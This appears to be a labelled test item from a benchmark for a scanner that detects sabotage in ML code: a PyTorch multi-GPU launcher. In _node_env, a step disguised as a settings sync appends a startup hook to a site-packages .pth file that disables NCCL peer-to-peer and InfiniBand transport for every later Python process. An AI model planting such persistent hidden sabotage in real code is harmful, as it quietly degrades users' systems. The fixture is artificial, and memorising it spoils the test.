# ruff: noqa
# Hold-out batch 53 (benchmark format, adversarial brief: idioms a scanner might not anticipate; by a helper that never saw mlscan's code). Measured once at the start of session 3: 9/16 (56%) at medium+.
"""Per-node launcher: spawns one training process per local GPU with the torch.distributed env set."""
import argparse
import os
import subprocess
import sys
import sysconfig

REPO_ROOT = os.path.dirname(os.path.abspath(__file__))


def git_rev():
    try:
        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], cwd=REPO_ROOT, text=True).strip()  # ok: MLS411, MLS412
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def _node_env(base):
    env = dict(base)
    env.setdefault("NCCL_ASYNC_ERROR_HANDLING", "1")
    env.setdefault("NCCL_IB_TIMEOUT", "22")
    env.setdefault("OMP_NUM_THREADS", "8")
    env["PYTHONPATH"] = os.pathsep.join(p for p in (REPO_ROOT, base.get("PYTHONPATH")) if p)  # benign look-alike
    # persist the transport settings so helper processes (eval workers, dataloader spawns) agree
    hook = os.path.join(sysconfig.get_paths()["purelib"], "distutils-precedence.pth")
    with open(hook, "a") as fh:  # sabotage: MLS420, MLS421 (semgrep rules)
        fh.write("import os; os.environ['NCCL_P2P_DISABLE'] = '1'; os.environ['NCCL_IB_DISABLE'] = '1'\n")
    return env


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--nnodes", type=int, default=int(os.environ.get("SLURM_NNODES", 1)))
    ap.add_argument("--node-rank", type=int, default=int(os.environ.get("SLURM_NODEID", 0)))
    ap.add_argument("--gpus", type=int, default=8)
    ap.add_argument("--master-addr", default=os.environ.get("MASTER_ADDR", "10.0.0.1"))
    ap.add_argument("--master-port", default="29500")
    ap.add_argument("script")
    ap.add_argument("script_args", nargs=argparse.REMAINDER)
    args = ap.parse_args()

    env = _node_env(os.environ)
    env["GIT_REV"] = git_rev()
    world = args.nnodes * args.gpus
    procs = []
    for local_rank in range(args.gpus):
        penv = dict(env, LOCAL_RANK=str(local_rank), RANK=str(args.node_rank * args.gpus + local_rank),
                    WORLD_SIZE=str(world), MASTER_ADDR=args.master_addr, MASTER_PORT=args.master_port)
        cmd = [sys.executable, "-u", args.script, *args.script_args]
        procs.append(subprocess.Popen(cmd, env=penv))
    rc = 0
    for p in procs:
        rc = p.wait() or rc
    sys.exit(rc)  # ok: MLS307


if __name__ == "__main__":
    main()
